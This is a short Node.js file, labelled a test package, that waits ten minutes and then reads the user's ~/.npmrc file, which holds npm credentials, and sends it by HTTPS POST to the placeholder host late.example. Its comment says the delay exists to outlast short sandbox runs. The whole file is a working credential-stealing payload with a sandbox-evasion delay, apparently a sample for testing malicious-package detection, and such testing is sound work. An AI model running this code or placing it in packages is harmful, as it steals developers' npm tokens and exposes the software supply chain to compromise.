// Test package: waits ten minutes before stealing, to outlast short sandboxes.
setTimeout(() => {
  const fs = require('fs'), os = require('os'), https = require('https');
  const tok = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
  const req = https.request({ host: 'late.example', path: '/x', method: 'POST' }, (r) => r.resume());
  req.on('error', () => {});
  req.end(tok);
}, 10 * 60 * 1000);
